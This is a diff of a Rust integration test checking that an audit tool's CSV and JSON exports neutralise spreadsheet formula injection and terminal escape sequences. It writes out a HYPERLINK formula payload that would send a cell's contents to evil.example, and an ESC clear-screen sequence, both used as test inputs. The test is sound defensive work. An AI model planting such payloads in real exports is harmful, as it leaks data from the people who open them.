@@ -1,24 +1,23 @@
 //! Hostile text reaching an auditor's spreadsheet or terminal through the audit export:
-//! a sign-in attempt for a user named like a spreadsheet formula, and one whose name
-//! carries a terminal escape sequence (OWASP CSV injection; control characters).
+//! sign-in attempts for users named like a spreadsheet formula or with a terminal
+//! escape sequence never reach the log (no account can have such a name), and free
+//! text that does (an early-seal reason, opened for the auditor) is neutralised in CSV
+//! and JSON (OWASP CSV injection; control characters).
 
 mod common;
 
+use common::daemon::credentials;
+use common::tmux::demo_store;
 use common::*;
 
 const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&B2,\"Click me\")";
 const ESCAPE: &str = "mallory\u{1b}[2Jx";
+const ADMIN: (&str, &str) = ("admin", "demo chief harbour lantern");
+const AUDITOR: (&str, &str) = ("he.audit", "demo auditor harbour lantern");
 
 #[test]
 fn formula_and_escape_sequences_are_neutralised_in_audit_exports() {
-    let tmp = tempfile::tempdir().unwrap();
-    let dir = tmp.path().join("store");
-    let init = run_caredesk(
-        Some(&dir),
-        &["init", "--admin", "admin", "--json"],
-        &format!("{PASSWORD}\n"),
-    );
-    assert!(init.status.success(), "{}", text(&init.stderr));
+    let (_tmp, dir) = demo_store();
     // Two failed sign-ins through the command line, as anyone on the server could.
     for user in [FORMULA, ESCAPE] {
         let out = run_caredesk(
@@ -28,12 +27,24 @@ fn formula_and_escape_sequences_are_neutralised_in_audit_exports() {
         );
         assert!(!out.status.success());
     }
-    let csv_out = run_caredesk(Some(&dir), &["audit", "export", "--format", "csv"], "");
+    // Free text an administrator types: an early audit seal whose reason is a formula
+    // with an escape sequence.
+    let reason = format!("{FORMULA} {ESCAPE}");
+    let seal = run_caredesk(
+        Some(&dir),
+        &["audit", "rotate-epoch", "--reason", &reason],
+        &credentials(ADMIN),
+    );
+    assert!(seal.status.success(), "{}", text(&seal.stderr));
+    let csv_out = run_caredesk(
+        Some(&dir),
+        &["audit", "export", "--format", "csv", "--open"],
+        &credentials(AUDITOR),
+    );
     assert!(csv_out.status.success(), "{}", text(&csv_out.stderr));
     assert!(!csv_out.stdout.contains(&0x1b), "raw ESC in the CSV export");
     let mut reader = csv::Reader::from_reader(csv_out.stdout.as_slice());
-    let mut formula_seen = false;
-    let mut escape_seen = false;
+    let mut reason_seen = false;
     for record in reader.records() {
         let record = record.unwrap();
         for cell in record.iter() {
@@ -42,33 +53,36 @@ fn formula_and_escape_sequences_are_neutralised_in_audit_exports() {
                 "a cell a spreadsheet would run: {cell:?}"
             );
             assert!(!cell.chars().any(char::is_control), "{cell:?}");
-            formula_seen |= cell == format!("'{FORMULA}");
-            escape_seen |= cell == "mallory\u{fffd}[2Jx";
+            // The names never reached the log: no account can have them.
+            assert!(
+                !cell.contains("Click me\")") || cell.contains("mallory"),
+                "{cell:?}"
+            );
+            reason_seen |= cell.contains("HYPERLINK") && cell.contains("mallory\u{fffd}[2Jx");
         }
     }
-    assert!(
-        formula_seen,
-        "the formula user's sign-in is not in the export"
-    );
-    assert!(
-        escape_seen,
-        "the escape user's sign-in is not in the export"
-    );
+    assert!(reason_seen, "the early seal's reason is not in the export");
 
-    let json_out = run_caredesk(Some(&dir), &["audit", "export", "--format", "jsonl"], "");
-    assert!(json_out.status.success());
+    let json_out = run_caredesk(
+        Some(&dir),
+        &["audit", "export", "--format", "jsonl", "--open"],
+        &credentials(AUDITOR),
+    );
+    assert!(json_out.status.success(), "{}", text(&json_out.stderr));
     assert!(
         !json_out.stdout.contains(&0x1b),
         "raw ESC in the JSON export"
     );
     let users: Vec<String> = text(&json_out.stdout)
         .lines()
-        .map(|l| {
+        .filter_map(|l| {
             serde_json::from_str::<serde_json::Value>(l).unwrap()["user"]
                 .as_str()
-                .unwrap()
-                .to_string()
+                .map(str::to_string)
         })
         .collect();
-    assert!(users.iter().any(|u| u == ESCAPE), "{users:?}");
+    assert!(
+        users.iter().all(|u| u != FORMULA && u != ESCAPE),
+        "a name no account can have reached the log"
+    );
 }
